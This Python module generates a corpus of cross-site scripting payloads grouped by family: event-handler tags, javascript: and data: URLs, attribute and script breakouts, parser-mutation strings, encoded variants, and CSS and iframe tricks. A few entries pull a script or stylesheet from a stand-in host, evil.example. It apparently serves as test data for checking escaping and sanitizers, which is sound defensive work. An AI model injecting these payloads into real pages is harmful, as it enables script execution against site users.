"""Words that would run as a script wherever a page forgets to escape or to clean them.

By family; each calls `alert`, so that whoever listens to it hears every one that runs. Made from
lists of tags, events and disguises, so that no family is a single example.
"""

from itertools import product

CALL = "alert(1)"

_EVENTS = {
    "img": "<img src=x onerror={}>",
    "img, quoted": '<img src="x" onerror="{}">',
    "svg": "<svg onload={}>",
    "body": "<body onload={}>",
    "video": "<video><source onerror={}></video>",
    "audio": "<audio src=x onerror={}>",
    "details": "<details open ontoggle={}>",
    "input": "<input autofocus onfocus={}>",
    "select": "<select autofocus onfocus={}>",
    "textarea": "<textarea autofocus onfocus={}>",
    "iframe": "<iframe onload={}></iframe>",
    "object": "<object data=x onerror={}></object>",
    "embed": "<embed src=x onerror={}>",
    "style": "<style onload={}></style>",
    "link": "<link rel=stylesheet href=x onerror={}>",
    "script": "<script src=x onerror={}></script>",
    "marquee": "<marquee onstart={}>x</marquee>",
    "animated": "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "unknown": "<xss id=x tabindex=1 onfocus={}>x</xss>",
    "paragraph": "<p onmouseover={}>x</p>",
    "link with event": "<a href=x onclick={}>x</a>",
    "table": "<table><tr><td onmouseenter={}>x</table>",
    "cell": "<td background=x onerror={}>",
    "image": "<image src=x onerror={}>",
}
_CALLS = (
    "alert(1)", "alert`1`", "&#97;lert(1)", "&#x61;&#x6c;&#x65;rt(1)", "top['al'+'ert'](1)",
    "(alert)(1)", "eval('ale'+'rt(1)')", "[1].map(alert)",
)  # fmt: skip

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)", "\x01javascript:alert(1)", "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "javascript:/*https://x/*/alert(1)",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<area href="{}">', '<base href="{}//">',
)  # fmt: skip

_BREAKERS = (
    '"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "-->", "--!>", "]]>", "</template>", "</select>", "</option>", "</p>", "</svg>", "?>", "%>",
)  # fmt: skip
_AFTER = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>")

FAMILIES: dict[str, list[str]] = {
    "scripts": [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >",
        "<script/x>alert(1)</script>", "<script\n>alert(1)</script>", "<script>alert(1)",
        "<script>alert(1)<!--", "<<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
        "<script type=module>alert(1)</script>", "<script defer>alert(1)</script>",
        "<script>window['alert'](1)</script>", "<script>/*</p>*/alert(1)</script>",
        "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script></svg>",
        "<math><script>alert(1)</script></math>", "<script src=data:,alert(1)></script>",
        "<script src='data:text/javascript,alert(1)'></script>", "<b><script>alert(1)</script></b>",
        "<table><script>alert(1)</script></table>", "<ul><li><script>alert(1)</script></ul>",
        "<script src=//evil.example/x.js></script>", "<script\x00>alert(1)</script>",
        "<scr\x00ipt>alert(1)</script>", "<noscript><script>alert(1)</script></noscript>",
    ],
    "events": [form.format(CALL) for form in _EVENTS.values()],
    "disguised calls": [
        _EVENTS[name].format(call) for name, call in product(("img", "svg", "details"), _CALLS)
    ],
    "disguised tags": [
        form.replace("~", space)
        for form, space in product(
            ("<img~src=x~onerror=alert(1)>", "<svg~onload=alert(1)>",
             "<IMG~SRC=x~ONERROR=alert(1)>"),
            ("/", "\t", "\n", "\r", "\x0c", "//", " / "),
        )
    ],
    "addresses": [form.format(scheme) for form, scheme in product(_LINKS, _SCHEMES)],
    "breaking out": [before + after for before, after in product(_BREAKERS, _AFTER)],
    "out of an attribute": [
        '" onfocus="alert(1)" autofocus="', "' onfocus='alert(1)' autofocus='",
        '" onmouseover="alert(1)', "' onmouseover='alert(1)", "x onerror=alert(1) src=x",
        '"onload="alert(1)', "` onmouseover=alert(1)",
        '" style="animation:x" onanimationend="alert(1)',
        '"><a href="javascript:alert(1)">', '" srcdoc="<script>alert(1)</script>',
        '" formaction="javascript:alert(1)', '" accesskey="x" onclick="alert(1)',
    ],
    "out of a script": [
        "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "${alert(1)}", "{{alert(1)}}",
        "{% alert(1) %}", "</script><script>alert(1)//", "'-alert(1)-'", '"-alert(1)-"',
        "\u2028alert(1)//", "\\u003cscript>alert(1)</script>", "#{alert(1)}", "<%= alert(1) %>",
        "{{constructor.constructor('alert(1)')()}}", "*/alert(1)/*",
    ],
    "mended into harm": [
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<p title='--><img src=x onerror=alert(1)>'><!-- -->",
        "<table><a href='<img src=x onerror=alert(1)>'>x</table>",
        "<style><style/><img src=x onerror=alert(1)>",
        "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
        "<textarea><p title='</textarea><svg/onload=alert(1)>'>",
        "<title><p title='</title><svg/onload=alert(1)>'>", "<!--><svg/onload=alert(1)>-->",
        "<!-- --!><svg/onload=alert(1)>", "<![CDATA[><svg/onload=alert(1)>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<?x ><svg/onload=alert(1)>?>",
        "<a href='x'><a href='y' onclick=alert(1)><b>",
        "<p><svg><p><style><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>", "<plaintext><script>alert(1)</script>",
        "<select><template><script>alert(1)</script></select>",
        "<h1/onload=alert(1)><b onclick=alert(1)>",
        "<br/onclick=alert(1)><i/onclick=alert(1)>x</i>", "<b<script>>alert(1)</script>",
        "<br<img src=x onerror=alert(1)>>", "<<b>script>alert(1)<</b>/script>",
    ],
    "encoded": [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;img src=x onerror=alert(1)&gt;", "&#x3c;svg onload=alert(1)&#x3e;",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;",
        "&lt;&lt;b&gt;script&gt;alert(1)&lt;/script&gt;",
        "<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>",
    ],
    "styles and frames": [
        "<style>@import '//evil.example/x.css';</style>",
        "<p style='background:url(javascript:alert(1))'>x",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
        "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
        "<isindex type=image src=x onerror=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<portal src=javascript:alert(1)>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    ],
    "spreadsheets and links in Markdown": [
        "=HYPERLINK('javascript:alert(1)')", "[x](javascript:alert(1))",
        "![x](x' onerror='alert(1))", "<javascript:alert(1)>", "http://x/'onclick='alert(1)",
        'http://x/"onclick="alert(1)', "https://x/<script>alert(1)</script>",
        "mailto:x@x.example?subject=<script>alert(1)</script>",
    ],
}  # fmt: skip

PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
